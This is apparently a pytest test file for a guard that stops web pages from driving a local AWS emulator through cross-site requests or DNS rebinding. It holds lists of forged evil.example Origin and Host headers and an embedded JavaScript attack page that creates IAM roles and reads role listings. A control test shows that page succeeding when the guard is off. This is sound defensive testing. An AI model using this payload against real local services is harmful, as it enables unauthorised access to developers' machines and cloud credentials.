"""No web page can drive the emulator that runs on the machine of whoever reads it."""

import contextlib
import http.client
import http.server
import json
import os
import shutil
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import boto3
import pytest

from demo.snapshot import environment
from demo.up import Up, up
from tests.conftest import Project, Render, check_nothing_left_behind

pytestmark = [pytest.mark.deploy, pytest.mark.xdist_group("guard")]

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
FRONT_END = "https://shop.example"


@pytest.fixture(scope="module")
def project(render: Render) -> Project:
    return render(2)


@pytest.fixture(scope="module")
def running(project: Project, temporary: Path) -> Iterator[Up]:
    with up(project.folder, environment()) as started:
        started.wait_until_ready()
        yield started
    check_nothing_left_behind(temporary)


@pytest.fixture(scope="module")
def port(project: Project, running: Up) -> int:
    assert running.process.poll() is None
    address = json.loads((project.folder / ".emulator.json").read_text())
    return int(address["endpoint"].rsplit(":", 1)[1])


def client(service: str, port: int) -> Any:
    session = boto3.Session("test", "test", region_name="ap-northeast-1")
    return session.client(service, endpoint_url=f"http://127.0.0.1:{port}")


class Answer(NamedTuple):
    status: int
    headers: http.client.HTTPMessage
    text: str


def ask(port: int, method: str, path: str, **headers: str) -> Answer:
    """Send a request with these headers; ``_`` stands for a dash, PORT for the port."""
    return send(http.client.HTTPConnection("127.0.0.1", port, timeout=30), method, path, headers)


def ask_with_tls(port: int, path: str, **headers: str) -> Answer:
    """Send a GET request over TLS, whatever certificate there is."""
    trusting = ssl.create_default_context()
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    connection = http.client.HTTPSConnection("127.0.0.1", port, timeout=30, context=trusting)
    return send(connection, "GET", path, headers)


def send(
    connection: http.client.HTTPConnection, method: str, path: str, headers: dict[str, str]
) -> Answer:
    with contextlib.closing(connection):
        connection.putrequest(method, path, skip_host="Host" in headers)
        for name, text in headers.items():
            value = text.replace("PORT", str(connection.port))
            connection.putheader(name.replace("_", "-"), value)
        connection.endheaders()
        answer = connection.getresponse()
        return Answer(answer.status, answer.headers, answer.read().decode())


# --- Requests, one by one

FOREIGN = [
    {"Origin": "https://evil.example"},
    {"Origin": "null"},
    {"Origin": ""},
    {"Origin": "http://127.0.0.1:1"},
    {"Origin": "http://localhost:PORT"},
    {"Origin": "https://127.0.0.1:PORT"},
    {"Origin": "http://127.0.0.1:PORT.evil.example"},
    {"Origin": "http://127.0.0.1:PORT, https://evil.example"},
    {"Sec_Fetch_Site": "cross-site"},
    {"Sec_Fetch_Site": "same-site"},
    {"Sec_Fetch_Site": ""},
    {"Sec_Fetch_Site": "none, cross-site"},
    {"Sec_Fetch_Site": "cross-site", "Origin": "http://127.0.0.1:PORT"},
    {"User_Agent": "Mozilla/5.0 (Macintosh) AppleWebKit/605.1.15 Version/15.6 Safari/605.1.15"},
    {"Host": "evil.example"},
    {"Host": "evil.example:PORT", "Origin": "http://evil.example:PORT"},
    {"Host": "evil.example:PORT", "Sec_Fetch_Site": "same-origin"},
    {"Host": "localhost.evil.example:PORT"},
    {"Host": "127.0.0.1.evil.example"},
    {"Host": "evil.localhost:PORT"},
    {"Host": "localhost.:PORT"},
    {"Host": "sts.ap-northeast-1.amazonaws.com"},
    {"Host": "0.0.0.0:PORT"},
    {"Host": "192.168.0.7:PORT"},
    {"Host": "[::]:PORT"},
    {"Host": ""},
]
PATHS = [
    ("GET", "/"),
    ("GET", "/_ministack/health"),
    ("POST", "/_ministack/reset"),
    ("POST", "/?Action=CreateRole&Version=2010-05-08&RoleName=evil&AssumeRolePolicyDocument={}"),
    ("PUT", "/2015-03-31/functions/vehicles-local-quote/code"),
    ("DELETE", "/2015-03-31/functions/vehicles-local-quote"),
    ("PATCH", "/v2/apis/any"),
    ("HEAD", "/bucket"),
    ("OPTIONS", "/anything"),
    ("GET", "/_aws/execute-api/API/$default/health"),
    ("OPTIONS", "/_aws/execute-api/API/$default/health"),
    ("POST", "/oauth2/token"),
]


def of_api(path: str, running: Up) -> str:
    return path.replace("API", running.value("HttpApiId"))


@pytest.mark.parametrize("headers", FOREIGN, ids=str)
def test_what_a_page_sends_is_refused(running: Up, port: int, headers: dict[str, str]) -> None:
    answer = ask(port, "GET", of_api("/_aws/execute-api/API/$default/health", running), **headers)
    assert answer.status == 403
    assert answer.text.startswith("Refused: ")
    assert "access-control-allow-origin" not in answer.headers


@pytest.mark.parametrize(("method", "path"), PATHS)
def test_it_is_refused_on_every_path_and_method(
    running: Up, port: int, method: str, path: str
) -> None:
    for headers in ({"Origin": "https://evil.example"}, {"Host": "evil.example"}):
        assert ask(port, method, of_api(path, running), **headers).status == 403
    assert client("lambda", port).get_function(FunctionName="vehicles-local-quote")


@pytest.mark.parametrize("headers", FOREIGN, ids=str)
def test_a_websocket_of_a_page_is_refused(port: int, headers: dict[str, str]) -> None:
    upgrade = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec_WebSocket_Key": "dGhlIHNhbXBsZSBub25jZQ==",
        "Sec_WebSocket_Version": "13",
    }
    answer = ask(port, "GET", "/_aws/execute-api/0123abcd/$default/", **upgrade, **headers)
    assert answer.status == 403


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"Host": "127.0.0.1"},
        {"Host": "LOCALHOST:PORT"},
        {"Host": "[::1]:PORT"},
        {"Origin": "http://127.0.0.1:PORT"},
        {"Host": "localhost:PORT", "Origin": "http://localhost:PORT"},
        {"Sec_Fetch_Site": "none", "User_Agent": "Mozilla/5.0"},
        {"User_Agent": "curl/8.10.1"},
        {"Sec_Fetch_Site": "same-origin", "Origin": "http://127.0.0.1:PORT"},
    ],
    ids=str,
)
def test_programs_and_people_on_this_machine_get_through(
    running: Up, port: int, headers: dict[str, str]
) -> None:
    path = of_api("/_aws/execute-api/API/$default/health", running)
    answer = ask(port, "GET", path, **headers)
    assert json.loads(answer.text) == {"status": "ok"}


@pytest.fixture(scope="module")
def front_end(running: Up, port: int) -> Iterator[str]:
    """The path of the API, which pages of FRONT_END may call."""
    api, apis = running.value("HttpApiId"), client("apigatewayv2", port)
    cors = {"AllowOrigins": [FRONT_END], "AllowMethods": ["GET"]}
    apis.update_api(ApiId=api, CorsConfiguration=cors)
    yield f"/_aws/execute-api/{api}/$default"
    apis.delete_cors_configuration(ApiId=api)


def test_a_declared_front_end_reaches_its_own_api_and_nothing_else(
    port: int, front_end: str
) -> None:
    page = {"Origin": FRONT_END, "Sec_Fetch_Site": "cross-site"}
    preflight = {**page, "Access_Control_Request_Method": "GET"}
    answer = ask(port, "OPTIONS", f"{front_end}/health", **preflight)
    assert answer.status == 204
    assert answer.headers["access-control-allow-origin"] == FRONT_END
    assert ask(port, "GET", f"{front_end}/health", **page).status == 200

    assert ask(port, "GET", f"{front_end}/health", Origin="https://evil.example").status == 403
    assert ask(port, "GET", f"{front_end}/health", Origin="null").status == 403
    assert ask(port, "GET", f"{front_end}/health", Sec_Fetch_Site="cross-site").status == 403
    assert ask(port, "GET", f"{front_end}/health", Host="evil.example", **page).status == 403
    others = client("apigatewayv2", port)
    other = others.create_api(Name="other", ProtocolType="HTTP")["ApiId"]
    for path in (f"/_aws/execute-api/{other}/$default/health", front_end.split("/$")[0], "/"):
        assert ask(port, "GET", path, **page).status == 403
    for method, path in PATHS:
        if "API" not in path:
            assert ask(port, method, path, **page).status == 403
    others.delete_api(ApiId=other)


@pytest.mark.parametrize(
    ("origin", "status"),
    [("http://localhost:5173", 200), ("https://evil.example", 403), ("null", 403)],
)
def test_an_api_that_lets_everybody_in_still_lets_no_page_of_the_web_in(
    running: Up, port: int, origin: str, status: int
) -> None:
    api, apis = running.value("HttpApiId"), client("apigatewayv2", port)
    apis.update_api(ApiId=api, CorsConfiguration={"AllowOrigins": ["*"]})
    path = f"/_aws/execute-api/{api}/$default/health"
    assert ask(port, "GET", path, Origin=origin).status == status
    apis.delete_cors_configuration(ApiId=api)


def test_an_origin_that_cloudformation_has_declared_counts(port: int) -> None:
    stacks = client("cloudformation", port)
    properties = {"Name": "x", "ProtocolType": "HTTP"}
    properties |= {"CorsConfiguration": {"AllowOrigins": [FRONT_END]}}  # type: ignore[dict-item]
    resources = {"Api": {"Type": "AWS::ApiGatewayV2::Api", "Properties": properties}}
    stacks.create_stack(StackName="front-end", TemplateBody=json.dumps({"Resources": resources}))
    stacks.get_waiter("stack_create_complete").wait(
        StackName="front-end", WaiterConfig={"Delay": 1, "MaxAttempts": 30}
    )
    [api] = [
        each["PhysicalResourceId"]
        for each in stacks.list_stack_resources(StackName="front-end")["StackResourceSummaries"]
    ]
    answer = ask(port, "GET", f"/_aws/execute-api/{api}/$default/x", Origin=FRONT_END)
    assert answer.status == 404  # the API's own answer: it has no such route
    stacks.delete_stack(StackName="front-end")


@contextlib.contextmanager
def emulator(project: Project, folder: Path, *program: str, **more: str) -> Iterator[int]:
    """Run a program of the emulator's environment, as tools/emulator.py does; give its port."""
    [home] = (project.folder / ".tox").glob("emulator-*")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
    environ = {"PATH": f"{home}/bin:/usr/bin:/bin", "HOME": str(folder), "TMPDIR": str(folder)}
    environ |= {"GATEWAY_PORT": str(port), "BIND_HOST": "127.0.0.1", "IOT_MTLS_ENABLED": "0"}
    with subprocess.Popen(
        [home / "bin" / program[0], *program[1:]],
        env=environ | {"AUTH": "true"} | more,
        stdin=subprocess.PIPE,  # it may end with whoever has started it
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    ) as process:
        try:
            deadline = time.monotonic() + 30
            while socket.socket().connect_ex(("127.0.0.1", port)) != 0:
                assert time.monotonic() < deadline
                time.sleep(0.05)
            yield port
        finally:
            process.terminate()


GUARDED = ("python", "-P", "tools/ministack_guard.py")


def test_a_port_with_tls_is_guarded_too(
    project: Project, running: Up, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert running.process.poll() is None
    monkeypatch.chdir(project.folder)
    with emulator(project, tmp_path, *GUARDED, USE_SSL="1") as port:
        path = "/_ministack/health"
        assert ask_with_tls(port, path).status == 200
        assert ask_with_tls(port, path, Origin="https://127.0.0.1:PORT").status == 200
        plain = {"Origin": "http://127.0.0.1:PORT"}
        for headers in (plain, *FOREIGN):
            if headers != {"Origin": "https://127.0.0.1:PORT"}:
                assert ask_with_tls(port, path, **headers).status == 403


# --- A real browser

# What a page can try without asking first. EMULATOR and LOCALHOST are the emulator's address.
ATTACK = """<!doctype html><title>evil</title><body><script>
const key = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=0&X-Amz-SignedHeaders=host" +
  "&X-Amz-Date=20260101T000000Z&X-Amz-Expires=604800" +
  "&X-Amz-Credential=test%2F20260101%2Fus-east-1%2Fiam%2Faws4_request";
const api = `?${key}&Version=2010-05-08&Action=`;
const make = (name, at = "EMULATOR") =>
  `${at}/${api}CreateRole&RoleName=${name}&AssumeRolePolicyDocument=%7B%7D`;
const seen = {};
const tried = (name, promise) => promise.then((value) => seen[name] = value, () => null);
const element = (kind, url) => new Promise((done) => {
  const made = document.createElement(kind);
  made.onload = made.onerror = done;
  made.src = url;
  document.body.append(made);
});
(async () => {
  await tried("blind", fetch(make("post"), {method: "POST", mode: "no-cors"}));
  await tried("blind", fetch(make("localhost", "LOCALHOST"), {method: "POST", mode: "no-cors"}));
  await tried("asked", fetch(make("asked"), {method: "POST", headers: {"X-Mine": "1"}}));
  await tried("read", fetch(`EMULATOR/${api}ListRoles`).then((answer) => answer.text()));
  await element("img", make("img"));
  await element("iframe", make("iframe"));
  document.body.insertAdjacentHTML("beforeend", `<iframe name="target"></iframe>`);
  const form = document.createElement("form");
  form.action = make("form"); form.method = "post"; form.target = "target";
  document.body.append(form); form.submit();
  navigator.sendBeacon(make("beacon"), "x");
  await new Promise((done) => setTimeout(done, 1000));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""
MADE = {"asked", "beacon", "form", "iframe", "img", "localhost", "post"}


def attack(port: int) -> str:
    addresses = ATTACK.replace("EMULATOR", f"http://127.0.0.1:{port}")
    return addresses.replace("LOCALHOST", f"http://localhost:{port}")


CALLING = """<!doctype html><title>shop</title><script>
(async () => {
  const seen = {};
  const get = (path) => fetch("http://127.0.0.1:PORT" + path).then((answer) => answer.text());
  await get("API/health").then((text) => seen.api = text, () => null);
  await get("/_ministack/health").then((text) => seen.emulator = text, () => null);
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


def browse(
    page: str, folder: Path, *options: str, host: str = "127.0.0.1", rebound: int = 0
) -> dict[str, Any]:
    """Open a page in a real browser, and give what it reports.

    With ``rebound``, all other paths of its own origin lead to this port, as after DNS rebinding.
    """
    reports: list[dict[str, Any]] = []
    reported = threading.Event()

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.answer(200, page.encode()) if self.path == "/" else self.relay()

        def do_POST(self) -> None:
            if self.path != "/report":
                self.relay()
                return
            reports.append(json.loads(self.body()))
            self.answer(204)
            reported.set()

        def body(self) -> bytes:
            return self.rfile.read(int(self.headers["Content-Length"] or 0))

        def relay(self) -> None:
            connection = http.client.HTTPConnection("127.0.0.1", rebound or 9, timeout=30)
            with contextlib.suppress(OSError), contextlib.closing(connection):
                connection.request(self.command, self.path, self.body(), dict(self.headers))
                answer = connection.getresponse()
                self.answer(answer.status, answer.read())

        def answer(self, status: int, body: bytes = b"") -> None:
            self.send_response(status)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        assert CHROMIUM
        command = [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run"]
        command += ["--disable-background-networking", "--disable-sync", "--disable-quic"]
        command += ["--disable-component-update", "--no-proxy-server", *options]
        # Newer ones ask before a page may reach this machine; not every browser does.
        command += ["--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessChecks"]
        command += [f"--user-data-dir={folder}", f"http://{host}:{site.server_port}/"]
        browser = subprocess.Popen(
            command,
            env=dict(os.environ) | {"HOME": str(folder)},
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            assert reported.wait(60), "the page never reported"
        finally:
            browser.kill()
            browser.wait()
            site.shutdown()
    return reports[0]


needs_browser = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")
EVIL = "--host-resolver-rules=MAP evil.example 127.0.0.1"


def roles(port: int) -> set[str]:
    """The roles that a page may have made."""
    names = {role["RoleName"] for role in client("iam", port).list_roles()["Roles"]}
    return names & MADE


@needs_browser
def test_a_page_in_a_browser_can_do_nothing(port: int, tmp_path: Path) -> None:
    assert "read" not in browse(attack(port), tmp_path)
    assert roles(port) == set()


@needs_browser
def test_a_page_whose_own_name_leads_here_can_do_nothing(port: int, tmp_path: Path) -> None:
    page = ATTACK.replace("EMULATOR", "").replace("LOCALHOST", "")
    seen = browse(page, tmp_path, EVIL, host="evil.example", rebound=port)
    assert seen["read"].startswith("Refused: the Host 'evil.example:")
    assert roles(port) == set()


@needs_browser
@pytest.mark.parametrize("rebinding", [False, True])
def test_without_the_guard_a_page_can_do_all_of_it(
    project: Project, running: Up, tmp_path: Path, rebinding: bool
) -> None:
    """Otherwise the two tests above would show nothing."""
    assert running.process.poll() is None
    (tmp_path / "emulator").mkdir()
    with emulator(project, tmp_path / "emulator", "ministack") as port:
        if rebinding:
            page = ATTACK.replace("EMULATOR", "").replace("LOCALHOST", "")
            seen = browse(page, tmp_path / "b", EVIL, host="evil.example", rebound=port)
        else:
            seen = browse(attack(port), tmp_path / "b")
        assert "<ListRolesResponse" in seen["read"]
        assert roles(port) == MADE


@needs_browser
def test_a_front_end_in_a_browser_calls_its_api(
    running: Up, port: int, front_end: str, tmp_path: Path
) -> None:
    api, apis = running.value("HttpApiId"), client("apigatewayv2", port)
    apis.update_api(ApiId=api, CorsConfiguration={"AllowOrigins": ["*"]})
    page = CALLING.replace("PORT", str(port)).replace("API", front_end)
    assert browse(page, tmp_path) == {"api": '{"status":"ok"}\n'}
